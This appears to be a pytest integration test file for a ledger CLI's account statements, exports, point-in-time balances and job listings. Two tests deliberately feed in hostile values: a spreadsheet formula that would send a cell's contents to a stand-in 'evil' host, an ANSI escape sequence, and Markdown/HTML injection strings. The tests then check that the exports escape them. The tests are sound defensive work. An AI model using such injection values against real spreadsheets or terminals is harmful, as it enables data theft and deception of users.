"""balance-worker accounts statement: opening, every entry, closing, totals; exact, streamed, and safe to open."""

from __future__ import annotations

import csv  # noqa: TID251  # reading alone
import io
from decimal import Decimal
from typing import Any

import pytest
from sqlalchemy import Engine

from tests.integration.cli.conftest import Cli, Story, told
from tests.support.builders import done, rows

W1 = ("accounts", "statement", "wallet:w1")


def sheet(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))


def bounds(engine: Engine, seq: int) -> str:
    """The time of one of the wallet's entries."""
    query = (
        "select e.created_at from entries e join accounts a on a.id = e.account_id where ref = 'w1' and e.seq = :seq"
    )
    at: str = rows(engine, query, seq=seq)[0]["created_at"].isoformat()
    return at


def test_all_of_it(cli: Cli, story: Story) -> None:
    told = cli.json(*W1)
    assert (told["account"], told["scale"], told["from"]) == ("wallet:w1", 2, "1970-01-01T00:00:00Z")
    assert told["opening"] == {"balance": 0, "balance_decimal": "0.00", "seq": 0}
    assert told["closing"] == {"balance": 1850, "balance_decimal": "18.50", "seq": 4}
    assert [each["amount_decimal"] for each in told["entries"]] == ["12.50", "5.00", "3.00", "-2.00"]
    assert [each["producer"] for each in told["entries"]] == ["billing", "default", "default", "default"]
    assert told["entries"][0]["idempotency_key"] == "invoice-1"
    assert told["entries"][3]["metadata"] == {"order": "7"}
    totals = told["totals"]
    assert (totals["entries"], totals["credits_decimal"], totals["debits_decimal"]) == (4, "20.50", "-2.00")
    assert {word: each["net_decimal"] for word, each in totals["by_origin"].items()} == {
        "free": "8.00",
        "purchased": "12.50",
    }
    assert {word: each["net_decimal"] for word, each in totals["by_producer"].items()} == {
        "billing": "12.50",
        "default": "6.00",
    }
    assert {word: each["entries"] for word, each in totals["by_reason"].items()} == {
        "FREE_CREDIT_GRANT": 2,
        "INVOICE_PAYMENT": 1,
        "PURCHASED_CREDIT_DIRECT": 1,
    }


def test_a_period_has_its_begin_and_not_its_end(cli: Cli, engine: Engine, story: Story) -> None:
    since, until = bounds(engine, 2), bounds(engine, 4)
    told = cli.json(*W1, "--from", since, "--to", until)
    assert [each["seq"] for each in told["entries"]] == [2, 3]
    assert (told["opening"]["balance_decimal"], told["closing"]["balance_decimal"]) == ("12.50", "20.50")
    empty = cli.json(*W1, "--from", until, "--to", until)
    assert (empty["entries"], empty["opening"], empty["totals"]["entries"]) == ([], empty["closing"], 0)
    assert empty["opening"]["balance_decimal"] == "20.50"


def test_both_ends_are_the_balances_of_these_times(cli: Cli, engine: Engine, story: Story) -> None:
    since, until = bounds(engine, 3), bounds(engine, 4)
    told = cli.json(*W1, "--from", since, "--to", until)
    for end, at in (("opening", since), ("closing", until)):
        shown = cli.json("accounts", "show", "wallet:w1", "--at", at)
        assert shown["ledger_balance_decimal"] == told[end]["balance_decimal"]
        assert shown["entry_count"] == told[end]["seq"]


def test_csv_adds_up_in_exact_decimals(cli: Cli, story: Story) -> None:
    lines = sheet(cli.text(*W1, "--csv"))
    opening, closing = (next(line for line in lines if line["row"] == end) for end in ("opening", "closing"))
    entries = [line for line in lines if line["row"] == "entry"]
    assert [line["row"] for line in lines] == ["opening", *["entry"] * 4, "closing", *["total by reason"] * 3,
        *["total by origin"] * 2, *["total by producer"] * 2]  # fmt: skip
    amounts = [Decimal(line["amount"]) for line in entries]
    assert [line["amount"] for line in entries] == ["12.50", "5.00", "3.00", "-2.00"]
    assert Decimal(opening["balance"]) + sum(amounts) == Decimal(closing["balance"]) == Decimal(entries[-1]["balance"])
    assert {line["producer"]: line["amount"] for line in lines if line["row"] == "total by producer"} == {
        "billing": "12.50",
        "default": "6.00",
    }
    assert entries[0] | {"time": ""} == {
        "row": "entry", "account": "wallet:w1", "unit": "credit", "number": "1", "time": "", "amount": "12.50",
        "balance": "12.50", "held": "", "kind": "credit", "reason": "PURCHASED_CREDIT_DIRECT", "origin": "purchased",
        "listed": "", "producer": "billing", "key": "invoice-1", "job": story.topped_up["job_id"], "description": "",
    }  # fmt: skip


def test_a_strangers_text_is_no_formula_and_steers_no_terminal(cli: Cli, engine: Engine) -> None:
    done(engine, "users.upsert", user_id=1)
    evil = '=HYPERLINK("http://evil"&A1)\x1b[2J'
    done(
        engine,
        "users.update_balance",
        user_id=1,
        amount_kopeks=1,
        description=evil,
        producer="-2+3",
        idempotency_key="@x",
    )
    for form in ("--csv", "--md", "--json"):
        assert "\x1b" not in cli.text("accounts", "statement", "user:1", form)
    [entry] = [line for line in sheet(cli.text("accounts", "statement", "user:1", "--csv")) if line["row"] == "entry"]
    assert entry["description"] == '\'=HYPERLINK("http://evil"&A1)\\u001b[2J'
    assert (entry["producer"], entry["key"], entry["amount"]) == ("'-2+3", "'@x", "0.01")


def test_markdown_keeps_texts_in_their_cells(cli: Cli, engine: Engine) -> None:
    done(engine, "users.upsert", user_id=1)
    evil = "a|b\n# <img src=x> [x](y)"
    done(engine, "users.update_balance", user_id=1, amount_kopeks=150, description=evil)
    lines = cli.text("accounts", "statement", "user:1", "--md").splitlines()
    assert lines[0] == "# Statement of user:1"
    row = next(line for line in lines if line.startswith("| 1 "))
    assert r"a\|b" in row
    assert "&lt;img" in row
    assert "<" not in row
    assert row.count(" | ") == lines[4].count(" | ")


def test_markdown_of_an_account_with_a_hostile_name(cli: Cli, engine: Engine) -> None:
    done(engine, "wallets.create", wallet_id="<b>*x*|[y](z)")
    lines = cli.text("accounts", "statement", "wallet:<b>*x*|[y](z)", "--md").splitlines()
    assert lines[0] == r"# Statement of wallet:&lt;b>\*x\*\|\[y\](z)"
    assert lines[2].startswith(r"wallet:&lt;b>\*x\*\|\[y\](z), ")


def test_what_the_user_does_not_see_is_there_and_marked(cli: Cli, engine: Engine) -> None:
    done(engine, "users.upsert", user_id=1)
    done(engine, "users.update_balance", user_id=1, amount_kopeks=150, create_transaction=False, description="x")
    done(engine, "users.update_balance", user_id=1, amount_kopeks=1)
    name = ("accounts", "statement", "user:1")
    assert [each["listed"] for each in cli.json(*name)["entries"]] == [False, True]
    assert [line["listed"] for line in sheet(cli.text(*name, "--csv")) if line["row"] == "entry"] == ["unlisted", ""]
    for form in ([], ["--md"]):
        assert cli.text(*name, *form).count("x (unlisted)") == 1


def test_for_people(cli: Cli, story: Story) -> None:
    text = cli.text(*W1)
    assert text.splitlines()[0].endswith("opening 0.00, 4 entries, closing 18.50 credit")
    assert "+12.50" in text
    assert [line.split() for line in text.splitlines()][-1] == ["all", "4", "20.50", "-2.00", "18.50"]
    app = cli.text("accounts", "statement", "app:1/2", "--to", "2020-01-01")
    assert app.splitlines() == [
        "app:1/2, 1970-01-01T00:00:00Z up to 2020-01-01T00:00:00Z: opening 0, 0 entries, closing 0 unit"
    ]


@pytest.mark.parametrize(
    ("arguments", "code", "says"),
    [
        (["wallet:none"], 1, "there is no account wallet:none"),
        (["w1"], 2, "names no account"),
        (["wallet:w1", "--csv", "--md"], 2, "choose one form"),
        (["wallet:w1", "--from", "soon"], 2, "'soon' is no time"),
        (["wallet:w1", "--from", "2027-01-02", "--to", "2027-01-01"], 2, "this is before --from"),
    ],
)
def test_what_cannot_be_stated(cli: Cli, story: Story, arguments: list[str], code: int, says: str) -> None:
    assert says in told(cli("accounts", "statement", *arguments), code)


# --- accounts show --at


def test_grants_and_holds_are_those_of_then(cli: Cli, engine: Engine) -> None:
    def now() -> str:
        at: str = rows(engine, "select clock_timestamp() as at")[0]["at"].isoformat()
        return at

    def shown(at: str) -> dict[str, Any]:
        return {**cli.json("accounts", "show", "wallet:w", "--at", at)}

    done(engine, "wallets.create", wallet_id="w", scale=0)
    before = now()
    grant = done(
        engine, "wallets.top_up", wallet_id="w", credits_to_add=30, priority=1, transaction_reason="INVOICE_REFUND"
    )
    hold = done(engine, "wallets.hold", wallet_id="w", credits=12)
    held = now()
    done(engine, "holds.capture", job_id=hold["job_id"], credits=5)
    done(engine, "grants.void", wallet_id="w", job_id=grant["job_id"], reason="r", operator="o")
    then = shown(held)
    assert (then["balance"], then["held"], then["spendable"], then["entry_count"]) == (30, 12, 18, 2)
    assert [(each["remaining"], each["held"], each["state"]) for each in then["grants"]] == [(18, 12, "open")]
    assert [(each["id"], each["remaining"]) for each in then["holds"]] == [(hold["job_id"], 12)]
    assert [entry["seq"] for entry in then["entries"]] == [2, 1]
    assert (shown(before)["balance"], shown(before)["grants"], shown(before)["entries"]) == (0, [], [])
    assert cli.json("accounts", "show", "wallet:w")["balance"] == 0
    text = cli.text("accounts", "show", "wallet:w", "--at", held)
    assert "Open holds" in text
    assert "status" not in text, "the entries do not tell it"


@pytest.mark.parametrize(
    ("arguments", "code", "says"),
    [
        (["wallet:w1", "--at", "2999-01-01"], 2, "2999-01-01T00:00:00Z has not come yet"),
        (["wallet:w1", "--at", "2020-01-01"], 1, "there was no account wallet:w1 yet"),
        (["wallet:none", "--at", "1h"], 1, "there is no account wallet:none"),
        (["wallet:w1", "--at", "0s", "--grants"], 2, "leave --grants and --holds out"),
    ],
)
def test_times_that_cannot_be_shown(cli: Cli, story: Story, arguments: list[str], code: int, says: str) -> None:
    assert says in told(cli("accounts", "show", *arguments), code)


# --- accounts list --customer, jobs list --key --until


def test_wallets_of_a_customer(cli: Cli, engine: Engine) -> None:
    for number in (3, 1, 2):
        done(engine, "wallets.create", wallet_id=f"w{number}", customer_id="c")
    done(engine, "wallets.create", wallet_id="other", customer_id="d")
    done(engine, "wallets.create", wallet_id="nobody")

    def page(*options: str) -> tuple[list[str], Any]:
        found = cli.json("accounts", "list", "--customer", "c", *options)
        return [each["account"] for each in found["accounts"]], found["next"]

    assert page() == (["wallet:w3", "wallet:w1", "wallet:w2"], None)
    assert page("--limit", "2") == (["wallet:w3", "wallet:w1"], "wallet:w1")
    assert page("--after", "wallet:w1") == (["wallet:w2"], None)
    assert "wallets alone have a customer" in told(cli("accounts", "list", "--customer", "c", "--kind", "user"))


def test_jobs_by_key_and_until(cli: Cli, engine: Engine, story: Story) -> None:
    done(engine, "wallets.create", wallet_id="w9", idempotency_key="open", producer="shop")

    def keys(*options: str) -> list[tuple[str, str]]:
        found = cli.json("jobs", "list", "--limit", "50", *options)["jobs"]
        return [(each["producer"], each["account"]) for each in found]

    assert keys("--key", "open") == [("shop", "wallet:w9"), ("billing", "wallet:w1")]
    assert keys("--key", "open", "--producer", "billing") == [("billing", "wallet:w1")]
    assert keys("--key", "invoice-1", "--account", "wallet:w1") == [("billing", "wallet:w1")]
    assert keys("--key", "too-much", "--account", "wallet:w1") == [("billing", "wallet:w1")]
    assert keys("--key", "open", "--account", "app:1/2") == []
    assert keys("--key", "none") == []
    assert len(keys("--until", "0s")) == 13
    assert len(keys("--until", "0s", "--account", "wallet:w1")) == 6
    assert keys("--until", "2020-01-01") == keys("--until", "1h", "--account", "wallet:w1") == []
    newest = cli.json("jobs", "list", "--limit", "1")["jobs"][0]
    assert len(keys("--until", newest["settled_at"])) == 12
